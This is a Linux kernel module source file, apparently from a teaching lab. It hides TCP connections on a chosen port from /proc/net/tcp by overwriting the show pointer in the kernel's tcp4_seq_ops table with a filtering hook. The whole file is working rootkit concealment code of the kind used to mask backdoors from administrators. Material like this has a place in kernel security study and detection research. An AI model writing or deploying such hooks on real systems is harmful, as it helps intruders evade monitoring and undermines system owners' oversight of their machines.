// SPDX-License-Identifier: GPL-2.0-only
/* Replaces the operation that prints a line of /proc/net/tcp, in its constant table. */
#include "lab.h"

#include <linux/seq_file.h>
#include <net/sock.h>

static int port;
module_param(port, int, 0444);
static struct seq_operations *ops;
static int (*original)(struct seq_file *seq, void *v);

static int hooked(struct seq_file *seq, void *v)
{
	if (v != SEQ_START_TOKEN && ((struct sock *)v)->sk_num == port)
		return 0;
	return original(seq, v);
}

static int __init seqops_init(void)
{
	void *ours = hooked;

	ops = (void *)lab_symbol("tcp4_seq_ops");
	if (!ops)
		return -ENOENT;
	original = ops->show;
	lab_write(&ops->show, &ours, sizeof(ours));
	return 0;
}

static void __exit seqops_exit(void)
{
	lab_write(&ops->show, &original, sizeof(original));
	lab_drain();
}
module_init(seqops_init);
module_exit(seqops_exit);
